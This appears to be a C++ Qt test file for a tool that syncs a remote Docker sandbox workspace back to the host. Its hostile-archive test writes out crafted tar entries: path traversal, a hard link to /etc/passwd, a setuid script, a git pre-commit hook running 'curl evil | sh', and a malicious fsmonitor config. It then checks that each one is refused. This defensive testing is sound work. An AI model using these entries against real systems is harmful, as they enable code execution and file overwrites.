// The copies of a remote Docker sandbox's workspace (docker/workspacecopy.h, tarreader.h): packing and
// bringing back round-trip, and an archive written by a hostile sandbox changes nothing it must not —
// nothing outside the workspace, no protected name, no set-id bit, nothing through a link — while a
// damaged archive is refused whole with where it broke.
#include "docker/tarreader.h"
#include "docker/tarwriter.h"
#include "docker/workspacecopy.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace airlock;
using namespace airlock::docker;

namespace {

bool writeFile(const QString &path, const QByteArray &data)
{
    QDir().mkpath(QFileInfo(path).path());
    QFile f(path);
    return f.open(QIODevice::WriteOnly) && f.write(data) == data.size();
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<missing>");
}

// A raw header block with any name and type, for archives no honest writer makes.
QByteArray rawEntry(const QByteArray &name, char type, const QByteArray &data = {}, const QByteArray &link = {},
                    quint32 mode = 0644)
{
    QByteArray h(512, '\0');
    std::memcpy(h.data(), name.constData(), size_t(std::min<qsizetype>(name.size(), 100)));
    std::snprintf(h.data() + 100, 8, "%07o", mode);
    std::snprintf(h.data() + 108, 8, "%07o", 0);
    std::snprintf(h.data() + 116, 8, "%07o", 0);
    std::snprintf(h.data() + 124, 12, "%011llo", static_cast<unsigned long long>(data.size()));
    std::snprintf(h.data() + 136, 12, "%011o", 0);
    std::memset(h.data() + 148, ' ', 8);
    h[156] = type;
    std::memcpy(h.data() + 157, link.constData(), size_t(std::min<qsizetype>(link.size(), 100)));
    std::memcpy(h.data() + 257, "ustar", 6);
    unsigned sum = 0;
    for (char c : h)
        sum += quint8(c);
    std::snprintf(h.data() + 148, 8, "%06o", sum);
    QByteArray out = h + data;
    out.append((512 - data.size() % 512) % 512, '\0');
    return out;
}

QByteArray closed(QByteArray archive)
{
    return archive + QByteArray(1024, '\0');
}

} // namespace

class TestWorkspaceCopy : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void packAndBringBackRoundTrip()
    {
        QTemporaryDir from, to;
        const QString longName = QString(QStringLiteral("d/")).repeated(60) + QStringLiteral("file-with-a-long-path.txt");
        QVERIFY(writeFile(from.filePath(QStringLiteral("a.txt")), "a\n"));
        QVERIFY(writeFile(from.filePath(QStringLiteral("sub/b.sh")), "#!/bin/sh\n"));
        ::chmod(QFile::encodeName(from.filePath(QStringLiteral("sub/b.sh"))).constData(), 0755);
        QVERIFY(writeFile(from.filePath(longName), "long\n"));
        QVERIFY(QFile::link(QStringLiteral("a.txt"), from.filePath(QStringLiteral("link"))));
        auto packed = packFolder(from.path(), {});
        QVERIFY2(packed, qPrintable(packed ? QString() : packed.error().message));

        // Docker names the entries after the folder: put them under "ws" as it would.
        TarWriter withTop;
        QVERIFY(withTop.addDirectory(QStringLiteral("ws")));
        TarReader reader(*packed);
        int entries = 0;
        for (;;) {
            auto next = reader.next();
            QVERIFY2(next, qPrintable(next ? QString() : next.error().message));
            if (!*next)
                break;
            ++entries;
            const TarEntry &e = **next;
            const QString path = QStringLiteral("ws/") + e.path;
            if (e.type == TarEntry::Type::Directory)
                QVERIFY(withTop.addDirectory(path, e.mode));
            else if (e.type == TarEntry::Type::File)
                QVERIFY(withTop.addFile(path, e.data.toByteArray(), e.mode));
            else if (e.type == TarEntry::Type::Symlink)
                QVERIFY(withTop.addSymlink(path, e.linkTarget));
        }
        QVERIFY(entries >= 64);
        const QByteArray archive = withTop.finish();
        auto report = syncFromArchive(archive, QStringLiteral("ws"), to.path(), {});
        QVERIFY2(report, qPrintable(report ? QString() : report.error().message));
        QVERIFY2(report->refused.isEmpty(), qPrintable(report->refused.join(u'\n')));
        QCOMPARE(readFile(to.filePath(QStringLiteral("a.txt"))), QByteArray("a\n"));
        QCOMPARE(readFile(to.filePath(longName)), QByteArray("long\n"));
        QVERIFY(QFileInfo(to.filePath(QStringLiteral("sub/b.sh"))).isExecutable());
        QCOMPARE(QFileInfo(to.filePath(QStringLiteral("link"))).symLinkTarget(), to.filePath(QStringLiteral("a.txt")));

        // Again: nothing to do. Then a file gone in the sandbox goes here.
        auto again = syncFromArchive(archive, QStringLiteral("ws"), to.path(), {});
        QVERIFY(again);
        QCOMPARE(again->written, 0);
        QVERIFY(writeFile(to.filePath(QStringLiteral("extra/x")), "x"));
        again = syncFromArchive(archive, QStringLiteral("ws"), to.path(), {});
        QVERIFY(again);
        QVERIFY(!QFileInfo::exists(to.filePath(QStringLiteral("extra"))));
    }

    void hostileArchiveChangesNothingItMustNot()
    {
        QTemporaryDir outside, ws;
        QVERIFY(writeFile(ws.filePath(QStringLiteral(".git/hooks/pre-commit")), "safe\n"));
        QVERIFY(writeFile(ws.filePath(QStringLiteral(".git/config")), "[core]\n"));
        // A link the agent left here on an earlier copy, where the archive now has a folder.
        QVERIFY(QFile::link(outside.path(), ws.filePath(QStringLiteral("was-a-link"))));
        QByteArray a;
        a += rawEntry("ws/", '5', {}, {}, 0755);
        a += rawEntry("ws/../escaped", '0', "x");
        a += rawEntry("/etc/airlock-test-absolute", '0', "x");
        a += rawEntry("other/file", '0', "x");
        a += rawEntry("ws/out", '2', {}, outside.path().toUtf8());
        a += rawEntry("ws/out/through-link", '0', "x");
        a += rawEntry("ws/passwd", '1', {}, "/etc/passwd");
        a += rawEntry("ws/suid", '0', "#!/bin/sh\n", {}, 06755);
        a += rawEntry("ws/.git/hooks/pre-commit", '0', "curl evil | sh\n", {}, 0755);
        a += rawEntry("ws/.GIT/config", '0', "[core]\nfsmonitor = evil\n");
        a += rawEntry("ws/was-a-link/", '5', {}, {}, 0755);
        a += rawEntry("ws/was-a-link/inside", '0', "in");
        a += rawEntry("ws/dev", '3');
        a += rawEntry("ws/.airlock-sync-x", '0', "x");
        auto report = syncFromArchive(closed(a), QStringLiteral("ws"), ws.path(), {});
        QVERIFY2(report, qPrintable(report ? QString() : report.error().message));
        QVERIFY(QDir(outside.path()).isEmpty());
        QVERIFY(!QFileInfo::exists(QStringLiteral("/etc/airlock-test-absolute")));
        QVERIFY(!QFileInfo::exists(QFileInfo(ws.path()).path() + QStringLiteral("/escaped")));
        QVERIFY(!QFileInfo::exists(ws.filePath(QStringLiteral("passwd"))));
        QVERIFY(!QFileInfo::exists(ws.filePath(QStringLiteral("dev"))));
        QCOMPARE(readFile(ws.filePath(QStringLiteral(".git/hooks/pre-commit"))), QByteArray("safe\n"));
        QCOMPARE(readFile(ws.filePath(QStringLiteral(".git/config"))), QByteArray("[core]\n"));
        QVERIFY(report->kept.contains(QStringLiteral(".git/hooks/pre-commit")));
        struct stat st{};
        QCOMPARE(::lstat(QFile::encodeName(ws.filePath(QStringLiteral("suid"))).constData(), &st), 0);
        QCOMPARE(st.st_mode & 07000, 0u);
        QVERIFY(QFileInfo(ws.filePath(QStringLiteral("was-a-link"))).isDir());
        QVERIFY(!QFileInfo(ws.filePath(QStringLiteral("was-a-link"))).isSymLink());
        QCOMPARE(readFile(ws.filePath(QStringLiteral("was-a-link/inside"))), QByteArray("in"));
        QVERIFY(report->refused.size() >= 6);
    }

    void damagedArchivesAreRefusedWhole_data()
    {
        QTest::addColumn<QByteArray>("archive");
        QTest::addColumn<QString>("said");
        const QByteArray good = rawEntry("ws/a", '0', "hello");
        QByteArray badSum = good;
        badSum[0] = 'X';
        QTest::newRow("checksum") << closed(badSum) << QStringLiteral("checksum");
        QTest::newRow("truncated header") << good.left(300) << QStringLiteral("inside a header");
        QTest::newRow("truncated body") << good.left(512 + 2) << QStringLiteral("does not fit");
        QByteArray huge = rawEntry("ws/a", '0', {});
        std::snprintf(huge.data() + 124, 12, "%011o", 07777777777);
        std::memset(huge.data() + 148, ' ', 8);
        unsigned sum = 0;
        for (char c : huge.left(512))
            sum += quint8(c);
        std::snprintf(huge.data() + 148, 8, "%06o", sum);
        QTest::newRow("size past the end") << closed(huge) << QStringLiteral("does not fit");
        QTest::newRow("bad pax") << closed(rawEntry("pax", 'x', "nonsense") + good) << QStringLiteral("pax");
        QTest::newRow("oversized pax") << closed(rawEntry("pax", 'x', QByteArray(2 * 1024 * 1024, 'a')) + good)
                                       << QStringLiteral("extended header");
        QTest::newRow("not a number") << closed(rawEntry("ws/a", '0', "x").replace(100, 3, "zzz")) << QStringLiteral("checksum");
    }

    void damagedArchivesAreRefusedWhole()
    {
        QFETCH(QByteArray, archive);
        QFETCH(QString, said);
        QTemporaryDir ws;
        QVERIFY(writeFile(ws.filePath(QStringLiteral("keep")), "k"));
        auto report = syncFromArchive(archive, QStringLiteral("ws"), ws.path(), {});
        QVERIFY(!report);
        QVERIFY2(report.error().message.contains(said), qPrintable(report.error().message));
        QCOMPARE(readFile(ws.filePath(QStringLiteral("keep"))), QByteArray("k")); // nothing lost
    }
};

QTEST_GUILESS_MAIN(TestWorkspaceCopy)
#include "tst_workspacecopy.moc"
